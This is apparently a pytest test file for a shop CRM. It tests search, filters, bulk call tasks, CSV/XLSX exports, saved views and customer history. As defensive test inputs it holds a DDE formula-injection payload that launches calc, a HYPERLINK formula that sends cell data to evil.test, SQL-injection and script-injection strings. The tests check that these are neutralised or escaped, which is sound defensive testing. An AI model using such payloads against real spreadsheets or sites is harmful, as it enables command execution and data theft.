"""The lists of orders and people: what they find, what is done with many at once, files, saved views, and the reasons."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from typing import Any

import pytest

from regulars.base import db
from regulars.base.actor import Actor
from regulars.people import actions as people
from regulars.staff import saving
from regulars.web.exports import asking, making
from regulars.web.exports.sheets import guarded
from regulars.web.history import GROUPS
from tests.flows.web_shop import WebShop, web_fixture  # noqa: F401

DDE = "=cmd|' /C calc'!A0"
EVIL = (
    DDE,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "\n=1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.test?x="&A1,"x")',
    '"=1+1',
)


def _named(web: WebShop, name: str, phone: str = "", **fields: Any) -> tuple[int, int]:
    """An order of somebody of that name: (person, order)."""
    person = web.world.person()
    with web.world.writing() as cur:
        cur.execute("update people_person set name = %s where id = %s", (name, person))
        if phone:
            cur.execute(
                "insert into people_contact_point (shop_id, person_id, kind, value) values (%s, %s, 'phone', %s)",
                (web.shop_id, person, phone),
            )
    return person, web.world.order(person, **fields)


def _line(web: WebShop, order: int, sku: str, name: str = "Kettle") -> None:
    with web.world.writing() as cur:
        cur.execute(
            "insert into orders_line (shop_id, order_id, position, sku, name, quantity, price)"
            " values (%s, %s, 0, %s, %s, 1, 10)",
            (web.shop_id, order, sku, name),
        )


def _listed(text: str, kind: str = "orders") -> list[int]:
    """Ids in the order of their rows."""
    return [int(i) for i in re.findall(rf'href="/{kind}/(\d+)/" data-open', text)]


def _get(web: WebShop, path: str, role: str = "operator", **query: str) -> str:
    found = web.clients[role].get(path, query)
    assert found.status_code == 200, (path, query, found.status_code)
    return str(found.content.decode())


@pytest.fixture(autouse=True)
def _russian_shop(web: WebShop) -> None:
    from regulars.shop import queries as shops

    with web.world.writing() as cur:
        cur.execute("update shop_shop set country = 'RU' where id = %s", (web.shop_id,))
    shops.forget()


# -- finding -----------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("spelling", ["+7 914 555-66-77", "8 (914) 555 66 77", "9145556677", "+79145556677"])
def test_a_phone_is_found_in_any_spelling(web: WebShop, spelling: str) -> None:
    person, order = _named(web, "Anna", "+79145556677")
    _named(web, "Olga", "+79145556678")
    assert _listed(_get(web, "/orders/", q=spelling)) == [order]
    assert _listed(_get(web, "/people/", q=spelling), "people") == [person]
    both = _get(web, "/search/", q=spelling)
    assert (_listed(both, "people"), _listed(both)) == ([person], [order])


def test_names_are_found_by_the_beginnings_of_their_words(web: WebShop) -> None:
    person, order = _named(web, "Пётр Вознесенский-Крыжановский")
    _named(web, "Анна Петровна")
    for text in ("петр крыж", "ПЁТР В", "возн", "Крыжановский Пётр"):
        assert _listed(_get(web, "/people/", q=text), "people") == [person], text
        assert _listed(_get(web, "/orders/", q=text)) == [order], text
    for text in ("ётр", "нович", "петр:* | анна", "' & %", "_", "\\"):
        assert person not in _listed(_get(web, "/people/", q=text), "people"), text


def test_an_order_is_found_by_product_number_and_its_buyers_number(web: WebShop) -> None:
    person, order = _named(web, "Anna")
    _line(web, order, "KETTLE-17")
    with web.world.writing() as cur:
        cur.execute("update orders_order set number = 'A-77', external_id = '900177' where id = %s", (order,))
        cur.execute(
            "insert into people_identity (shop_id, person_id, source, external_id) values (%s, %s, 'woocommerce', 'c-5')",
            (web.shop_id, person),
        )
    _named(web, "Olga")
    for text in ("KETTLE-17", "kettle-17", "A-77", "#A-77", "№ a-77", "900177", "c-5"):
        assert _listed(_get(web, "/orders/", q=text)) == [order], text
    assert _listed(_get(web, "/people/", q="c-5"), "people") == [person]


def test_whoever_was_merged_is_found_as_the_other_with_both_ones_orders(web: WebShop) -> None:
    keep, first = _named(web, "Anna", "+79145556677")
    other, second = _named(web, "Anya", "+79145556688")
    with web.world.writing() as cur:
        people.merge(cur, web.shop_id, keep, other, Actor("command"), web.world.now)
    assert _listed(_get(web, "/people/", q="+79145556688"), "people") == [keep]
    assert sorted(_listed(_get(web, "/orders/", q="+79145556688"))) == sorted([first, second])
    assert re.search(r'class="end num more">2<', _get(web, "/people/", q="+79145556688")), "both orders count"


def test_common_names_are_walked_page_by_page(web: WebShop, monkeypatch: pytest.MonkeyPatch) -> None:
    """With a name so common that not all who have it are read at once, no one is left out or shown twice."""
    from regulars.people import listing

    monkeypatch.setattr(listing, "_FEW", 5)
    monkeypatch.setattr(listing, "_WINDOW", 4)
    monkeypatch.setattr(listing, "_FURTHER", 7)
    wanted = []
    for n in range(40):
        person, _ = _named(web, f"Anna {n}" if n % 3 == 0 else f"Olga {n}")
        if n % 3 == 0:
            wanted.append(person)
    found: list[int] = []
    before = None
    with web.world.writing() as cur:
        while page := listing.search(cur, web.shop_id, "RU", "anna", before=before, limit=4):
            found += page
            before = page[-1]
    assert found == wanted[::-1]


def test_ready_filters_find_and_count_what_their_name_says(web: WebShop) -> None:
    _, called = web.buy(payment_status="paid", status="processing")
    _, shipped = _named(web, "B", status="shipped", payment_status="paid")
    _, unpaid = _named(web, "C", status="new", payment_status="unpaid")
    _, failed = _named(web, "D", status="new", payment_status="failed")
    _named(web, "E", status="cancelled", payment_status="failed")
    found = {
        p: sorted(_listed(_get(web, "/orders/", preset=p))) for p in ("to_call", "unpaid", "on_the_way", "trouble")
    }
    assert found == {
        "to_call": [called],
        "unpaid": sorted([unpaid, failed]),
        "on_the_way": [shipped],
        "trouble": [failed],
    }
    counts = dict(re.findall(r'href="\?preset=(\w+)".*?<b class="num">([^<]*)</b>', _get(web, "/orders/")))
    assert counts == {"to_call": "1", "unpaid": "2", "on_the_way": "1", "trouble": "1", "twice": "0"}
    web.world.later(hours=2)
    assert sorted(_listed(_get(web, "/orders/", preset="trouble"))) == sorted([failed, called]), "the call is late"


def test_filters_go_together_and_days_are_the_shops(web: WebShop) -> None:
    _, old = _named(web, "A", status="delivered", payment_status="paid")
    web.world.later(days=3)
    _, today = _named(web, "B", status="delivered", payment_status="paid")
    _named(web, "C", status="delivered", payment_status="unpaid")
    assert sorted(_listed(_get(web, "/orders/", status="delivered", payment="paid"))) == sorted([old, today])
    assert _listed(_get(web, "/orders/", payment="paid", days="1")) == [today]
    first = (web.world.now - timedelta(days=3)).date().isoformat()
    assert _listed(_get(web, "/orders/", payment="paid", **{"from": first, "until": first})) == [old]
    assert len(_listed(_get(web, "/orders/", status="nonsense", days="x", **{"from": "2026-99-99"}))) == 3


def test_a_filter_that_finds_nothing_says_which_condition_is_to_blame(web: WebShop) -> None:
    _named(web, "A", status="shipped", payment_status="paid")
    text = _get(web, "/orders/", status="shipped", payment="unpaid")
    assert "Nothing matches all of these conditions" in text
    assert re.search(r'href="\?status=shipped">Unpaid.*?without it: 1', text, re.S), "without 'unpaid' there is one"
    assert re.search(r'href="\?payment=unpaid">Shipped.*?without it nothing', text, re.S)


def test_pages_follow_each_other_without_gaps_or_doubles(web: WebShop) -> None:
    made = []
    for n in range(120):
        _, order = _named(web, f"P{n}")
        made.append(order)
        if n % 3 == 0:  # many have the same moment
            web.world.later(minutes=1)
    found: list[int] = []
    query = ""
    for _ in range(5):
        text = web.clients["operator"].get(f"/orders/?{query}").content.decode()
        found += _listed(text)
        following = re.search(r'href="\?([^"]*after=[^"]*)"', text)
        if following is None:
            break
        query = following[1].replace("&amp;", "&")
    assert sorted(found) == sorted(made)
    assert len(set(found)) == 120
    assert "Found: 120" in text


def test_people_are_filtered_by_what_is_known_of_them(web: WebShop) -> None:
    a, _ = _named(web, "Anna")
    b, _ = _named(web, "Boris")
    c, _ = _named(web, "Anna Maria")
    actor = Actor("command")
    with web.world.writing() as cur:
        cur.execute(
            "update people_person set customer_since = %s, address = %s::jsonb, language = 'ru' where id = %s",
            (web.world.now, db.dumps({"city": " Орёл "}), a),
        )
        for person, words in ((a, (True,)), (b, (True, False)), (c, ())):
            for given in words:
                people.say_consent(cur, web.shop_id, person, "email", "advertising", given, actor, web.world.now, {})
                web.world.now += timedelta(seconds=1)
    for query, wanted in (
        ({"kind": "customer"}, [a]),
        ({"kind": "lead"}, [c, b]),
        ({"city": "орел"}, [a]),
        ({"language": "ru"}, [a]),
        ({"language": "en"}, [c, b]),
        ({"consent": "email"}, [a]),
        ({"q": "anna", "kind": "lead"}, [c]),
    ):
        assert _listed(_get(web, "/people/", **query), "people") == wanted, query


# -- many at once ------------------------------------------------------------------------------------------------------
def _team(web: WebShop) -> str:
    return str(web.world.one("select key from shop_team where shop_id = %s order by key limit 1", web.shop_id))


def test_calls_are_made_for_those_that_have_none_and_called_off_again(web: WebShop) -> None:
    _, waiting = web.buy()
    _, first = _named(web, "A")
    _, second = _named(web, "B")
    operator, before = web.clients["operator"], web.world.one("select count(*) from desk_task")
    body = {"do": "calls", "team": _team(web), "id": [str(waiting), str(first), str(second)]}
    assert operator.post("/orders/bulk", body).status_code == 302
    made = web.world.rows("select id, order_id, state, kind from desk_task where order_id = any(%s)", [first, second])
    assert sorted(r[1] for r in made) == sorted([first, second])
    assert {(r[2], r[3]) for r in made} == {("open", "call")}
    assert web.world.one("select count(*) from desk_task") == before + 2, "a call that waits already is enough"
    ((detail,),) = web.world.rows("select detail from base_audit where action = 'calls.made'")
    assert detail["count"] == 2
    assert web.world.one("select count(*) from events_event where kind = 'task.opened' and order_id = %s", first) == 1
    toast = operator.get("/orders/").content.decode()
    assert "2 calls were made." in toast and "nobody to call: 1" in toast and "/orders/calls/undo" in toast
    taken = next(r[0] for r in made if r[1] == second)
    operator.post(f"/tasks/{taken}/claim")
    operator.post("/orders/calls/undo")
    assert dict(web.world.rows("select order_id, state from desk_task where order_id = any(%s)", [first, second])) == {
        first: "closed",
        second: "claimed",
    }
    assert web.world.one("select count(*) from events_event where kind = 'task.closed' and order_id = %s", first) == 1
    operator.post("/orders/calls/undo")
    assert web.world.one("select count(*) from base_audit where action = 'calls.called_off'") == 1, "once is enough"


def test_calls_for_all_that_the_filter_finds(web: WebShop) -> None:
    orders = [_named(web, f"P{n}", status="shipped")[1] for n in range(60)]
    _named(web, "Q", status="new")
    web.clients["operator"].post(
        "/orders/bulk", {"do": "calls", "team": _team(web), "all": "yes", "filter": "status=shipped", "id": ["1"]}
    )
    assert sorted(r[0] for r in web.world.rows("select order_id from desk_task")) == sorted(orders)


def test_calls_begin_when_the_buyer_may_be_called(web: WebShop) -> None:
    person, order = _named(web, "A")
    with web.world.writing() as cur:
        cur.execute("update people_person set time_zone = 'America/Los_Angeles' where id = %s", (person,))
    web.clients["operator"].post("/orders/bulk", {"do": "calls", "team": _team(web), "id": [str(order)]})
    ((begins, due),) = web.world.rows("select not_before, due_at from desk_task where order_id = %s", order)
    assert begins > web.world.now, "it is four in the morning there"
    assert due > begins


def test_orders_of_another_shop_are_never_among_those_meant(web: WebShop) -> None:
    _, mine = _named(web, "A")
    stranger = web.clients["stranger"]
    for body in (
        {"do": "calls", "team": _team(web), "id": [str(mine)]},
        {"do": "export", "form": "csv", "id": [str(mine)]},
        {"do": "calls", "team": _team(web), "id": ["x", "9" * 40, "-1", ""]},
    ):
        assert stranger.post("/orders/bulk", body)["Location"] == "/orders/"
    assert web.world.one("select count(*) from desk_task") == 0
    assert web.world.one("select count(*) from staff_export") == 0
    assert web.world.one("select count(*) from base_audit where action in ('calls.made', 'orders.exported')") == 0


def test_a_team_that_the_shop_does_not_have_calls_nobody(web: WebShop) -> None:
    _, order = _named(web, "A")
    web.clients["operator"].post("/orders/bulk", {"do": "calls", "team": "nobody", "id": [str(order)]})
    assert web.world.one("select count(*) from desk_task") == 0


# -- files -------------------------------------------------------------------------------------------------------------
def _file(web: WebShop, page: str, form: str, role: str = "owner", **body: Any) -> bytes:
    asked = web.clients[role].post(f"/{page}/export", {"form": form, **body})
    assert asked.status_code == 302, asked.status_code
    found = web.clients[role].get(asked["Location"])
    assert found.status_code == 200
    assert "attachment" in found["Content-Disposition"]
    return bytes(found.content)


def _rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "Excel knows UTF-8 by its mark"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("evil", EVIL)
def test_no_cell_of_csv_is_a_formula(web: WebShop, evil: str) -> None:
    _, order = _named(web, evil)
    _line(web, order, evil[:40], evil)
    (row,) = _rows(_file(web, "orders", "csv"))
    assert row["Buyer"].lstrip("'") == evil.lstrip("'"), "nothing is lost"
    for cell in row.values():
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), cell
    (person,) = _rows(_file(web, "people", "csv"))
    assert not person["Name"].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))


def test_no_cell_of_xlsx_is_a_formula_a_number_or_a_link(web: WebShop) -> None:
    for evil in (*EVIL, "https://evil.test", "0012"):
        _named(web, evil)
    with zipfile.ZipFile(io.BytesIO(_file(web, "people", "xlsx"))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        styles = book.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "hyperlink" not in sheet
    assert "=cmd|&#x27; /C calc" in sheet or "=cmd|' /C calc" in sheet, "the text itself is there"
    assert 'quotePrefix="1"' in styles, "and stays a text when somebody edits the cell"
    assert ">0012<" in sheet, "leading noughts stay"


def test_guarding_leaves_plain_texts_alone() -> None:
    for text in ("Anna", "", "a=b", "1-2", "Чайник", "'quoted"):
        assert guarded(text) == text
    assert guarded(DDE) == "'" + DDE


def test_a_file_holds_what_the_filter_finds_in_its_readers_form(web: WebShop) -> None:
    _named(web, "Anna", status="shipped", total=123450)
    _named(web, "Boris", status="new")
    (row,) = _rows(_file(web, "orders", "csv", filter="status=shipped"))
    assert (row["Buyer"], row["State"], row["Total"], row["Currency"]) == ("Anna", "shipped", "1234.50", "RUB")
    web.clients["owner"].post("/language", {"language": "ru"})
    russian = _file(web, "orders", "csv", filter="status=shipped").decode("utf-8-sig")
    assert "Покупатель" in russian and ";1234,50;" in russian
    audit = web.world.rows("select detail from base_audit where action = 'orders.exported' order by id")
    assert [(d["rows"], d["form"], d["contacts"]) for (d,) in audit] == [(1, "csv", True), (1, "csv", True)]


def test_contacts_stand_in_a_leads_file_alone(web: WebShop) -> None:
    person, _ = _named(web, "Anna", "+79145556677")
    email = web.world.one("select value from people_contact_point where person_id = %s and kind = 'email'", person)
    for page in ("orders", "people"):
        lead = _file(web, page, "csv", "supervisor").decode()
        assert "+79145556677" in lead and email in lead
        operator = _file(web, page, "csv", "operator").decode()
        assert "+79145556677" not in operator and email not in operator and "Phone" not in operator
    contacts = [
        d["contacts"] for (d,) in web.world.rows("select detail from base_audit where action like '%%.exported'")
    ]
    assert sorted(contacts) == [False, False, True, True]


def test_a_file_belongs_to_whoever_asked_and_goes_when_he_may_no_longer(web: WebShop) -> None:
    _named(web, "Anna")
    path = web.clients["supervisor"].post("/people/export", {"form": "csv"})["Location"]
    for role in ("owner", "operator", "stranger"):
        assert web.clients[role].get(path).status_code == 404, role
    with web.world.writing() as cur:
        cur.execute(
            "update staff_membership set role = 'operator' where account_id = %s", (web.accounts["supervisor"],)
        )
    assert web.clients["supervisor"].get(path).status_code == 404, "it holds contacts that an operator doesn't see"


def test_only_the_ticked_ones_are_exported(web: WebShop) -> None:
    _, wanted = _named(web, "Anna")
    _named(web, "Boris")
    found = web.clients["owner"].post("/orders/bulk", {"do": "export", "form": "csv", "id": [str(wanted)]})
    rows = _rows(web.clients["owner"].get(found["Location"]).content)
    assert [r["Buyer"] for r in rows] == ["Anna"]


def test_a_large_file_is_made_by_a_job_that_says_how_far_it_is(web: WebShop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(asking, "AT_ONCE", 2)
    for n in range(5):
        _named(web, f"P{n}")
    owner = web.clients["owner"]
    path = owner.post("/orders/export", {"form": "xlsx"})["Location"]
    export = int(path.split("/")[2])
    text = owner.get(path).content.decode()
    assert "about to be made" in text and f'hx-get="{path}"' in text
    assert owner.get(f"{path}file").status_code == 404
    jobs = web.world.rows("select task_name, args from procrastinate_jobs where task_name = %s", making.JOB)
    assert jobs == [("web.make_export", {"export_id": export})]
    making.make(export)
    ready = owner.get(path, headers={"HX-Request": "true"}).content.decode()
    assert "The file is ready: 5 rows" in ready and "<html" not in ready and "hx-get" not in ready
    assert owner.get(f"{path}file").content.startswith(b"PK")
    making.make(export)
    assert web.world.one("select state from staff_export where id = %s", export) == "ready", "a second run does nothing"


def test_a_list_longer_than_a_file_may_be_is_cut_and_says_so(web: WebShop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(making, "MOST", 3)
    monkeypatch.setattr(asking, "AT_ONCE", 0)
    for n in range(5):
        _named(web, f"P{n}")
    path = web.clients["owner"].post("/people/export", {"form": "csv"})["Location"]
    making.make(int(path.split("/")[2]))
    text = web.clients["owner"].get(path).content.decode()
    assert "3 rows" in text and "The list is longer" in text
    assert len(_rows(web.clients["owner"].get(f"{path}file").content)) == 3


def test_exactly_as_many_as_a_file_may_hold_is_not_cut(web: WebShop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(making, "MOST", 3)
    for n in range(3):
        _named(web, f"P{n}")
    _file(web, "people", "csv")
    assert web.world.rows("select done, is_cut from staff_export") == [(3, False)]


def test_a_file_that_could_not_be_made_says_so(web: WebShop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(asking, "AT_ONCE", 0)
    monkeypatch.setattr("regulars.base.blobs.LARGEST_BYTES", 10)
    _named(web, "Anna")
    path = web.clients["owner"].post("/people/export", {"form": "csv"})["Location"]
    making.make(int(path.split("/")[2]))
    assert "could not be made" in web.clients["owner"].get(path).content.decode()


def test_files_and_deleted_views_are_forgotten_after_a_day(web: WebShop) -> None:
    _named(web, "Anna")
    _file(web, "people", "csv")
    with web.world.writing() as cur:
        saving.forget_old(cur)
    assert web.world.one("select count(*) from base_blob") == 1
    with web.world.writing() as cur:
        cur.execute("update staff_export set created_at = created_at - interval '25 hours'")
        saving.forget_old(cur)
    assert (web.world.one("select count(*) from staff_export"), web.world.one("select count(*) from base_blob")) == (
        0,
        0,
    )


def test_nothing_to_export_makes_no_file(web: WebShop) -> None:
    asked = web.clients["owner"].post("/orders/export", {"form": "csv", "filter": "status=returned"})
    assert asked["Location"] == "/orders/?status=returned"
    assert web.world.one("select count(*) from staff_export") == 0


# -- saved views -------------------------------------------------------------------------------------------------------
def _save(web: WebShop, role: str, name: str, query: str, **more: str) -> int:
    found = web.clients[role].post("/views/save", {"page": "orders", "name": name, "query": query, **more})
    assert found.status_code == 302
    return int(web.world.one("select max(id) from staff_saved_view"))


def test_a_view_is_kept_shown_deleted_and_brought_back(web: WebShop) -> None:
    _named(web, "Anna")
    view = _save(web, "operator", "Debts", "preset=unpaid&status=new")
    assert "Debts" in _get(web, "/orders/") and 'href="?preset=unpaid&amp;status=new"' in _get(web, "/orders/")
    assert "Debts" not in _get(web, "/orders/", "supervisor"), "it is the operator's own"
    assert "Debts" not in _get(web, "/people/")
    _save(web, "operator", "Debts", "status=shipped")
    assert web.world.rows("select query from staff_saved_view") == [("status=shipped",)], "the same name is replaced"
    gone = web.clients["operator"].post(f"/views/{view}/delete", {"page": "orders"}, follow=True).content.decode()
    assert f"/views/{view}/restore" in gone and "is deleted" in gone and 'class="r-view"' not in gone
    web.clients["operator"].post(f"/views/{view}/restore")
    assert "Debts" in _get(web, "/orders/")
    actions = [r[0] for r in web.world.rows("select action from base_audit where action like 'view.%%' order by id")]
    assert actions == ["view.saved", "view.saved", "view.deleted", "view.restored"]


def test_a_shared_view_is_everybodys_and_a_lead_may_delete_it(web: WebShop) -> None:
    _named(web, "Anna")
    view = _save(web, "supervisor", "Everything sent", "status=shipped", shared="yes")
    assert "Everything sent" in _get(web, "/orders/")
    assert f"/views/{view}/delete" not in _get(web, "/orders/"), "not the operator's to delete"
    assert web.clients["operator"].post(f"/views/{view}/delete").status_code == 404
    assert web.clients["stranger"].post(f"/views/{view}/delete").status_code == 404
    assert web.clients["owner"].post(f"/views/{view}/delete").status_code == 302
    assert web.clients["stranger"].post(f"/views/{view}/restore").status_code == 404
    _save(web, "supervisor", "Everything sent", "status=new", shared="yes")
    assert web.clients["supervisor"].post(f"/views/{view}/restore").status_code == 404, "its name was taken since"


@pytest.mark.parametrize(
    "body", [{"name": "", "query": "status=new"}, {"name": "x", "query": ""}, {}, {"name": "\x00"}]
)
def test_a_view_needs_a_name_and_a_filter(web: WebShop, body: dict[str, str]) -> None:
    text = web.clients["operator"].post("/views/save", body, follow=True).content.decode()
    assert "Give the view a name" in text
    assert web.world.one("select count(*) from staff_saved_view") == 0


def test_what_a_view_is_called_and_keeps_is_shown_as_text(web: WebShop) -> None:
    _named(web, "Anna")
    _save(web, "operator", "<b>x</b>", 'status=new&q="><script>')
    text = _get(web, "/orders/")
    assert "<b>x</b>" not in text and "<script>" not in text.split("</head>")[1]


# -- the person's history and its reasons ------------------------------------------------------------------------------
def test_a_deleted_decision_is_said_to_be_unknown_and_nothing_is_made_up(web: WebShop) -> None:
    person, order = web.buy()
    web.outbox.gate()
    text = _get(web, f"/people/{person}/")
    assert "Began by “An order was placed”" in text and "nothing stood in its way" in text
    with web.world.writing() as cur:
        cur.execute("set local regulars.repair = 'on'")
        cur.execute("delete from journeys_decision")
    text = _get(web, f"/people/{person}/")
    assert "Unknown: the record of the scheme’s decision is gone." in text
    assert "Began by “An order was placed”" not in text
    assert "nothing stood in its way" in text, "the gate's own record is still there"
    with web.world.writing() as cur:
        cur.execute("update outbox_message set why = '{}'")
    text = _get(web, f"/people/{person}/")
    assert "There is no record of the reasons" in text and "nothing stood in its way" not in text
    assert "There is no record of the reasons" in _get(web, f"/orders/{order}/")


def test_the_decision_shown_is_the_one_that_made_the_message(web: WebShop) -> None:
    person, order = web.buy()
    web.outbox.gate()
    web.world.later(minutes=5)
    web.clients["operator"].post(f"/tasks/{web.task_of(order)}/finish", {"outcome": "confirmed"})
    web.settle()
    web.outbox.gate()
    boxes = _get(web, f"/people/{person}/", show="messages").split('class="r-whybox"')[1:]
    assert len(boxes) == 2
    thanks, told = boxes  # the newest first
    assert '<span class="mono" translate="no">thanks</span>' in thanks and "Outcome &#x27;Confirmed&#x27;" in thanks
    assert "Before that" in thanks and "steps: 3" in thanks
    assert '<span class="mono" translate="no">confirm</span>' in told and "Before that" not in told
    assert 'href="/schemes/of/after-order/"' in told


def test_the_history_is_one_of_everything_by_days_and_by_kinds(web: WebShop) -> None:
    person, order = web.buy()
    web.outbox.gate()
    web.world.later(days=1)
    web.clients["operator"].post(f"/tasks/{web.task_of(order)}/finish", {"outcome": "refused", "note": "a <b>note</b>"})
    web.settle()
    text = _get(web, f"/people/{person}/")
    assert text.index("Today, 3\u00a0March") < text.index("Yesterday, 2\u00a0March")
    assert "Refused" in text and "a &lt;b&gt;note&lt;/b&gt;" in text and "Operator" in text
    words = re.compile(r"(?<!“)An order was placed|Letter\b|A task ended|The buyer was told")
    kinds = {g: set(words.findall(_get(web, f"/people/{person}/", show=g))) for g in GROUPS}
    assert kinds == {
        "messages": {"Letter"},
        "orders": {"An order was placed"},
        "tasks": {"A task ended"},
        "promises": {"The buyer was told"},
    }


def test_a_long_history_goes_on_page_by_page(web: WebShop) -> None:
    person, order = _named(web, "Anna")
    for n in range(120):
        web.world.happens("x.step", person, order, n=n)
        if n % 7 == 0:
            web.world.later(minutes=1)
    seen, query = 0, ""
    for _ in range(4):
        text = web.clients["operator"].get(f"/people/{person}/?{query}").content.decode()
        seen += text.count("x.step")
        following = re.search(r'href="\?([^"]*after=[^"]*)"', text)
        if following is None:
            break
        query = following[1].replace("&amp;", "&")
    assert seen == 120


def test_past_orders_stand_where_they_happened(web: WebShop) -> None:
    """History is loaded long after it happened: its events have the newest ids and the oldest moments."""
    person, order = _named(web, "Anna")
    web.world.happens("order.placed", person, order)
    now = web.world.now
    web.world.now = now - timedelta(days=400)
    web.world.happens("order.delivered", person, order, live=False)
    web.world.now = now
    text = _get(web, f"/people/{person}/")
    assert text.index("An order was placed") < text.index("The order reached the buyer")


# -- the order's page --------------------------------------------------------------------------------------------------
def test_an_orders_page_says_what_changed_and_what_is_left(web: WebShop) -> None:
    _, order = _named(web, "Anna", status="shipped")
    _line(web, order, "PAN")
    bodies = (
        {"status": "new", "payment": {"status": "unpaid"}, "total": 1000, "currency": "RUB", "lines": [1]},
        {"status": "shipped", "payment": {"status": "unpaid"}, "total": 2000, "currency": "RUB", "lines": [2]},
        {"status": "shipped", "payment": {"status": "unpaid"}, "total": 2000, "currency": "RUB", "lines": [2]},
    )
    with web.world.writing() as cur:
        for n, body in enumerate(bodies, 1):
            cur.execute(
                "insert into orders_version (shop_id, order_id, n, version_at, body) values (%s, %s, %s, %s, %s::jsonb)",
                (web.shop_id, order, n, web.world.now, db.dumps(body)),
            )
        cur.execute(
            "insert into catalog_product (shop_id, sku, name, stock, version_at) values (%s, 'PAN', 'Pan', 0, %s)",
            (web.shop_id, web.world.now),
        )
    text = _get(web, f"/orders/{order}/")
    assert "State: new → shipped" in text and "Total: ₽10 → ₽20" in text and "Lines" in text
    assert "State: new<" in text, "of the first version its own state"
    assert "nothing that is shown here" in text
    assert "out of stock" in text


# -- whatever is typed -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text", ["\u0000", "'", "%", "\\", "a" * 5000, "😀", "' or 1=1 --", "!:*&|()", "٠١٢", "＋７", "\u202e", "а:*"]
)
def test_no_text_is_an_error(web: WebShop, text: str) -> None:
    web.buy()
    for path in ("/orders/", "/people/", "/search/"):
        for name in ("q", "city", "source", "language", "from", "after", "show", "preset"):
            assert web.clients["owner"].get(path, {name: text}).status_code == 200, (path, name)
    for path in ("/orders/export", "/people/export", "/orders/bulk"):
        body = {"filter": f"q={text}", "form": text, "do": "export", "all": "yes"}
        assert web.clients["owner"].post(path, body).status_code == 302, path


def test_the_menu_leads_to_the_search(web: WebShop) -> None:
    assert 'href="/search/"' in _get(web, "/tasks/")
    assert "People and orders in one place" in _get(web, "/search/")
    assert "Nothing with" in _get(web, "/search/", q="nobody at all")
